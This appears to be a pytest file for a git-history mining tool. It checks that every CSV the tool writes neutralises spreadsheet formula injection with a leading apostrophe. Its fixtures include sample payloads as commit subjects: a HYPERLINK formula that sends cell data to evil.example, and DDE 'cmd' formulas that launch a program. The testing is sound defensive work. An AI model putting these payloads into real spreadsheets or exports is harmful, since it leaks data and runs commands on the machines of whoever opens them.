"""Issue 10 part B, item 14: CSV cells a spreadsheet would run as formulas are neutralised (OWASP:
a leading apostrophe) in every CSV the tool writes; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd

from miner.cli import main
from miner.report.spreadsheet import neutralise, neutralise_frame

HOSTILE_SUBJECTS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 train the model",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def test_item14_neutralise_follows_owasp() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}x") == f"'{start}x"
    assert neutralise("train the model") == "train the model"
    assert neutralise(-0.5) == -0.5
    frame = pd.DataFrame({"text": ["=1+1", "ok"], "rate": [-0.5, 0.25]}, index=["-a", "b"])
    safe = neutralise_frame(frame)
    assert safe["text"].tolist() == ["'=1+1", "ok"]
    assert safe["rate"].tolist() == [-0.5, 0.25]
    assert safe.index.tolist() == ["'-a", "b"]


def test_item14_every_csv_the_tool_writes_is_neutralised(
    make_repo: Callable[[dict[str, Any]], Path],
    tmp_path: Path,
    capsys: Any,
) -> None:
    repo = make_repo(
        {
            "authors": {"eve": {"name": "@Eve", "email": "eve@example.com"}},
            "commits": [
                {"message": subject, "write": {f"src/models/m{i}.py": "fit()\n"}}
                for i, subject in enumerate(HOSTILE_SUBJECTS)
            ],
        }
    )
    assert main(["commits", str(repo), "--format", "csv", "--no-cache"]) == 0
    from_commits = capsys.readouterr().out
    assert main(["analyze", str(repo), "--format", "csv", "-o", str(tmp_path / "t")]) == 0
    from_tables = (tmp_path / "t" / "commits.csv").read_text(encoding="utf-8")
    for text in (from_commits, from_tables):
        rows = list(csv.DictReader(io.StringIO(text)))
        assert [row["subject"] for row in rows] == [f"'{s}" for s in HOSTILE_SUBJECTS]
        assert {row["author"] for row in rows} == {"'@Eve"}
    for path in (tmp_path / "t").glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                assert not cell.startswith("-") or _is_number(cell), (path.name, cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
